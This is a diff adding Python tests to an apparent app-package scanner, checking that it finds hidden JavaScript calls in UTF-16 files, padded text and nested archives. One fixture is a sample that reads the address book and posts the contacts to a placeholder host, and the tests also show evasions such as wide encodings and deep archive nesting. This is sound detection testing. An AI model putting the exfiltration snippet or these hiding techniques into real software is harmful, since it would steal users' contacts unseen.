@@ -233,6 +233,34 @@ def test_chinese_text_in_an_old_encoding_is_a_script_like_any_other() -> None:
     assert (calls_of(seen), problems(seen)) == (["book.all"], [])
 
 
+WIDE = "// 读取通讯录\nbook.all(x => post('https://api.example.com/u', x))" + " " * 40
+
+
+@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be"])
+@pytest.mark.parametrize("mark", ["\ufeff", ""])
+@pytest.mark.parametrize("before", [0, 1, 40_001, (1 << 19) - 4])
+def test_a_call_in_wide_letters_is_found_with_what_stands_beside_it(encoding: str, mark: str, before: int) -> None:
+    text = mark + " " * before + WIDE
+
+    (bridge,) = read({"assets/app/a.js": text.encode(encoding)}).bridges
+
+    assert bridge.at.offset == 2 * text.index("book.all")
+    assert (bridge.seen_as, bridge.requests, bridge.hosts) == ("source", ("post(",), ("api.example.com",))
+
+
+def test_a_call_in_wide_letters_is_found_in_archives_within_archives() -> None:
+    pages = archive({"pages/a.js": ("\ufeff" + WIDE).encode("utf-16-le")})
+
+    (bridge,) = read({"assets/app/a.wgt": archive({"inner.zip": pages})}).bridges
+
+    assert bridge.at.file == "assets/app/a.wgt!/inner.zip!/pages/a.js"
+
+
+@pytest.mark.parametrize("data", [NOISE, bytes(4000), b"\xff\xfe" + NOISE, b"a\0\0\0" * 1000])
+def test_bytes_that_are_no_letters_are_unreadable_and_not_wide(data: bytes) -> None:
+    assert problems(read({"assets/app/a.js": data})) == ["unreadable"]
+
+
 def test_a_control_letter_or_two_are_no_sign_that_a_script_is_encrypted() -> None:
     seen = read({"assets/app/a.js": b"var marks = '\x00\x01';" + b" " * 200 + b"book.all()"})
 
